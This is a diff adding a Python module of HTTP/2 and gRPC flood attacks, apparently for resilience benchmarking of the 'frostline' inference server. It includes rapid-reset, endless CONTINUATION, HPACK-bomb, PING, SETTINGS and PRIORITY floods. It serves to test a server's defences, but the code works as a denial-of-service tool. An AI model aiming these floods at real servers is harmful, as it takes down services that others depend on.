@@ -1,0 +1,238 @@
+"""The floods: many cheap frames that each cost the server some work or memory."""
+
+import itertools
+import time
+from collections.abc import Callable
+
+from bench.attacks import wire
+from bench.attacks.target import MOST_S, Sent, Target
+from bench.attacks.wire import Units, Wire
+from bench.attacks.workload import MESSAGE
+from bench.load.workload import framed
+from frostline.protocol import MODEL_INFER, MODEL_STREAM_INFER
+
+_CALL = wire.block(MODEL_INFER)
+_STREAM = wire.block(MODEL_STREAM_INFER)
+_BODY = framed(MESSAGE)
+_OFTEN = 500
+"""Frames that are sent at once."""
+_PAUSE_S = 0.005
+
+
+def flood(
+    target: Target,
+    units: Units,
+    unit: str,
+    *,
+    least: int = 0,
+    connections: int = 1,
+    opening: Callable[[Wire], bytes] = lambda _: b"",
+    greeting: bytes = wire.PREFACE + wire.frame(wire.SETTINGS, 0, 0),
+    reading: bool = True,
+) -> Sent:
+    """Send units over and over, each time on the next connection; one that the server closes is opened again.
+
+    Args:
+        target: the server.
+        units: what to send.
+        unit: what they are.
+        least: units to send before the attack ends, which it does not before its time.
+        connections: open at the same time.
+        opening: what a connection sends first.
+        greeting: what it sends before that.
+        reading: whether what the server says is read.
+    """
+    sent = Sent(unit)
+    begin = time.monotonic()
+    open_ones: list[Wire | None] = [None] * connections
+    for slot in itertools.cycle(range(connections)):
+        passed = time.monotonic() - begin
+        if passed > MOST_S or (passed > target.seconds and sent.count >= least):
+            break
+        each = open_ones[slot]
+        if each is None or each.closed:
+            each = open_ones[slot] = target.wire(sent)
+            if not each.open(greeting):
+                time.sleep(_PAUSE_S)
+                continue
+            each.unsent += opening(each)
+        if not each.unsent:
+            chunk, count = units(each)
+            each.unsent += chunk
+            sent.count += count
+            target.link.spend(len(chunk))
+        each.turn(0, reading=reading)
+        if each.unsent and not each.closed:
+            each.turn(_PAUSE_S / connections, reading=reading)
+    sent.seconds = time.monotonic() - begin
+    for left in open_ones:
+        if left is not None:
+            left.close()
+    return sent
+
+
+def _repeated(frames: bytes, count: int = _OFTEN) -> Units:
+    chunk = frames * count
+    return lambda _: (chunk, count)
+
+
+def _streams(frames: Callable[[int], bytes], count: int = 100) -> Units:
+    """Frames of new streams, given each stream's number."""
+    return lambda each: (b"".join(frames(each.take_stream()) for _ in range(count)), count)
+
+
+def _open_call(each: Wire) -> bytes:
+    return wire.headers(each.take_stream(), _CALL)
+
+
+def _open_stream(each: Wire) -> bytes:
+    return wire.headers(each.take_stream(), _STREAM)
+
+
+def rapid_resets(target: Target) -> Sent:
+    """HEADERS and RST_STREAM."""
+    units = _streams(lambda stream: wire.headers(stream, _CALL) + wire.reset(stream))
+    return flood(target, units, "resets", least=100_000)
+
+
+def rapid_resets_of_many(target: Target) -> Sent:
+    """The same over 80 connections, each with a whole request before its reset."""
+    units = _streams(lambda stream: wire.headers(stream, _CALL) + wire.data(stream, _BODY) + wire.reset(stream), 10)
+    return flood(target, units, "resets", least=80_000, connections=80)
+
+
+def rapid_resets_of_streams(target: Target) -> Sent:
+    """The same of ModelStreamInfer."""
+    units = _streams(lambda stream: wire.headers(stream, _STREAM) + wire.reset(stream))
+    return flood(target, units, "resets", least=20_000)
+
+
+def made_resets(target: Target) -> Sent:
+    """A whole request, and an invalid WINDOW_UPDATE that makes the server reset its stream."""
+    units = _streams(
+        lambda stream: wire.headers(stream, _CALL) + wire.data(stream, _BODY) + wire.window_update(stream, 0), 20
+    )
+    return flood(target, units, "requests", least=20_000)
+
+
+def malformed_calls(target: Target) -> Sent:
+    """Header blocks with a name in capitals, which is an error of the stream."""
+    bad = _CALL + wire.field(b"BAD", b"x")
+    return flood(target, _streams(lambda stream: wire.headers(stream, bad, end=True)), "calls", least=20_000)
+
+
+def continuations(target: Target) -> Sent:
+    """A header block that never ends, in frames of 1 KiB."""
+    fields = wire.field(b"x", b"y") * 200
+    return flood(
+        target,
+        _repeated(wire.frame(wire.CONTINUATION, 0, 1, fields), 50),
+        "frames",
+        opening=lambda each: wire.frame(wire.HEADERS, 0, each.take_stream(), _CALL),
+    )
+
+
+def empty_continuations(target: Target) -> Sent:
+    """A header block that never ends, in empty frames."""
+    return flood(
+        target,
+        _repeated(wire.frame(wire.CONTINUATION, 0, 1)),
+        "frames",
+        opening=lambda each: wire.frame(wire.HEADERS, 0, each.take_stream(), _CALL),
+    )
+
+
+def pings(target: Target) -> Sent:
+    """PING."""
+    return flood(target, _repeated(wire.frame(wire.PING, 0, 0, b"frosting")), "frames")
+
+
+def unread_pings(target: Target) -> Sent:
+    """PING, and the answers are never read."""
+    return flood(target, _repeated(wire.frame(wire.PING, 0, 0, b"frosting")), "frames", reading=False)
+
+
+def settings(target: Target) -> Sent:
+    """SETTINGS, which changes the window of every stream."""
+    both = wire.settings(window=65535) + wire.settings(window=65534)
+    return flood(target, lambda _: (both * (_OFTEN // 2), _OFTEN), "frames")
+
+
+def unread_settings(target: Target) -> Sent:
+    """SETTINGS, and the acknowledgements are never read."""
+    return flood(target, _repeated(wire.settings(window=65535)), "frames", reading=False)
+
+
+def priorities(target: Target) -> Sent:
+    """PRIORITY, the streams depending on each other in a circle."""
+    circle = b"".join(
+        wire.frame(wire.PRIORITY, 0, stream, (stream % 199 + 2).to_bytes(4, "big") + b"\x10")
+        for stream in range(1, 201, 2)
+    )
+    return flood(target, lambda _: (circle * 5, 500), "frames")
+
+
+def window_updates(target: Target) -> Sent:
+    """WINDOW_UPDATE of the connection, by one byte."""
+    return flood(target, _repeated(wire.window_update(0, 1)), "frames")
+
+
+def empty_data(target: Target) -> Sent:
+    """DATA without a byte, on an open call."""
+    return flood(target, _repeated(wire.frame(wire.DATA, 0, 1)), "frames", opening=_open_call)
+
+
+def unknown_frames(target: Target) -> Sent:
+    """Frames of a type that does not exist, which a server must ignore."""
+    return flood(target, _repeated(wire.frame(0x5F, 0, 0, b"x" * 16)), "frames")
+
+
+def large_header_lists(target: Target) -> Sent:
+    """Whole header blocks of 1 MiB."""
+    large = _CALL + wire.field(b"x", b"v" * 1019) * 1024
+    return flood(target, _streams(lambda stream: wire.headers(stream, large, end=True), 1), "blocks")
+
+
+def empty_headers(target: Target) -> Sent:
+    """Header fields with neither name nor value."""
+    empty = _CALL + wire.field(b"", b"") * 4000
+    return flood(target, _streams(lambda stream: wire.headers(stream, empty, end=True), 5), "blocks")
+
+
+def hpack_bombs(target: Target) -> Sent:
+    """One entry of 4 KB in the dynamic table, and 15 000 references of one byte to it: 60 MB in 19 KB."""
+    bomb = _CALL + wire.field(b"x", b"v" * 4000, indexed=True) + b"\xbe" * 15_000
+    return flood(target, _streams(lambda stream: wire.headers(stream, bomb, end=True), 1), "blocks")
+
+
+def empty_messages(target: Target) -> Sent:
+    """A ModelStreamInfer of messages without a byte, whose answers are never read."""
+    messages = b"\0\0\0\0\0" * 1000
+    return flood(
+        target,
+        lambda _: (wire.frame(wire.DATA, 0, 1, messages), 1000),
+        "messages",
+        opening=_open_stream,
+        reading=False,
+    )
+
+
+def calls_without_message(target: Target) -> Sent:
+    """Calls that end before their message."""
+    units = _streams(lambda stream: wire.headers(stream, _CALL, end=True), 50)
+    return flood(target, units, "calls", least=20_000)
+
+
+def unknown_methods(target: Target) -> Sent:
+    """Calls of methods that do not exist, each another one."""
+    numbers = itertools.count()
+
+    def units(each: Wire) -> tuple[bytes, int]:
+        frames = []
+        for _ in range(20):
+            stream = each.take_stream()
+            block = wire.block(f"/inference.Unknown/Method{next(numbers)}")
+            frames += [wire.headers(stream, block), wire.data(stream, _BODY)]
+        return b"".join(frames), 20
+
+    return flood(target, units, "calls", least=5_000)
